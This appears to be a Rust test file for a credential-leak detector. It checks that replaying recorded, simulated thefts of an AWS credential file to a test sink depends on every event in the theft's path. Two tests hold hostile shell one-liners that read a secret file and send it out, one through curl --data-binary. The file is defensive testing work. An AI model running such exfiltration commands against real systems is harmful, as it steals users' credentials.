//! The recording holds all that the verdict rests on: without any one event of a theft's path, replay judges otherwise.
//! (That every recording of these tests replays to the byte-same reports is held by `detector_tests::watched`.)

use detector::{
    engine::{Conclusion, Did, Finding, Verdict},
    event::{Body, Object},
};
use detector_tests::{
    fixture::{act, binary},
    namespace::SINK_V4,
    scene::Scene,
    watched::Watched,
};
use std::{collections::BTreeSet, ffi::OsString};

type Result = anyhow::Result<()>;

/// What a conclusion finds of the secret's way; what needs no destination is beside it.
fn leaks(conclusion: &Conclusion) -> Vec<&Finding> {
    conclusion.findings.iter().filter(|finding| finding.rule == "leak").collect()
}

/// What a conclusion says, but for the numbers and times of events.
fn said(conclusion: &Conclusion) -> impl PartialEq + std::fmt::Debug + use<> {
    let path = |f: &Finding| f.chain.iter().map(|link| (link.process.clone(), link.did.clone())).collect::<Vec<_>>();
    let finding = |f: &Finding| (f.rule.clone(), f.secret.clone(), f.destination.clone(), f.process.clone(), path(f));
    (conclusion.verdict, leaks(conclusion).into_iter().map(finding).collect::<Vec<_>>())
}

/// Takes out one event after the other. `verbs` are those of the path from the secret to the destination.
fn every_event_counts(scene: &Scene, command: Vec<OsString>, verbs: &[&str]) -> Result {
    let run = Watched::run(scene, &scene.job(command).mode("enforce"))?;
    let whole = &run.conclusion;
    assert_eq!(whole.verdict, Verdict::Fail);
    let found = leaks(whole);
    let [leak] = found[..] else { panic!("{:#?}", whole.findings) };
    let did: Vec<&str> = leak.chain.iter().map(|link| verb(&link.did)).collect();
    assert_eq!(did, verbs, "the path is not the one that this test is about");

    let path: BTreeSet<u64> = leak.chain.iter().map(|link| link.event).collect();
    let taken = run.recording.acts(|body| if let Body::Take(take) = body { Some(take.object) } else { None });
    let taken: BTreeSet<Object> = taken.map(|(_, object)| object).collect();
    for event in &run.recording.events {
        let (gap, closed) =
            (run.recording.judged_without(event.seq, false)?, run.recording.judged_without(event.seq, true)?);
        // The last event leaves no gap; the footer's count, which a forger would mend, tells of it.
        let missed = gap.reasons.iter().any(|reason| reason.contains("missing"));
        assert!(missed || event.seq == run.recording.footer.events, "without {event:?}: {:?}", gap.reasons);
        if path.contains(&event.seq) {
            assert_ne!(said(&closed), said(whole), "without {event:?} nothing changes");
        }
        // Of these, none can be done without: there is no leak left to see, or not this one's process.
        let source =
            matches!(event.body, Body::Open(_) | Body::Access(_) | Body::Give(_) | Body::Take(_) | Body::Fork(_));
        if path.contains(&event.seq) && source {
            assert!(leaks(&closed).is_empty() && closed.verdict != Verdict::Fail, "without {event:?}: {closed:#?}");
        }
        // Beside the path there is only what a holder says to the log, which nobody of the job reads.
        let beside = match event.body {
            Body::Give(give) => taken.contains(&give.object),
            Body::Take(_) => true,
            _ => false,
        };
        assert!(!beside || path.contains(&event.seq), "a flow beside the path: {event:?}");
    }
    Ok(())
}

fn verb(did: &Did) -> &'static str {
    match did {
        Did::Probe { .. } => "probe",
        Did::Write { .. } => "write",
        Did::Run { .. } => "run",
        Did::Dump => "dump",
        Did::Print => "print",
        Did::Read { .. } => "read",
        Did::Access { .. } => "access",
        Did::Fork => "fork",
        Did::Exec => "exec",
        Did::Give { .. } => "give",
        Did::Take { .. } => "take",
        Did::Send { .. } => "send",
    }
}

#[test]
fn through_a_pipe() -> Result {
    let scene = Scene::new()?;
    let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
    let theft = act(&["pipe-stage", &to, &file.to_string_lossy()])?;
    every_event_counts(&scene, theft, &["read", "give", "take", "send"])
}

#[test]
fn through_a_file() -> Result {
    let scene = Scene::new()?;
    let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
    let theft = act(&["file-stage", &to, &file.to_string_lossy()])?;
    every_event_counts(&scene, theft, &["read", "give", "take", "send"])
}

/// A shell reads the secret and hands it to a program that its child becomes, as an argument.
#[test]
fn through_a_fork_and_an_exec() -> Result {
    let scene = Scene::new()?;
    let script = r#"IFS= read -rd "" secret < "$0"; curl -s --max-time 5 --data-binary "$secret" "http://$1/"; exit 0"#;
    let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
    let words = ["bash".into(), "-c".into(), script.into(), file.into(), to.into()];
    every_event_counts(&scene, words.to_vec(), &["read", "fork", "exec", "send"])
}

/// What a program is given as its standard input is its own, whoever opened it: neither the fork nor the exec matters.
#[test]
fn through_standard_input() -> Result {
    let scene = Scene::new()?;
    let script = r#"exec 3< "$1"; "$0" send-stdin "$2" <&3; exit 0"#;
    let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
    let words = ["bash".into(), "-c".into(), script.into(), binary("fixture")?.into(), file.into(), to.into()];
    every_event_counts(&scene, words.to_vec(), &["read", "send"])
}
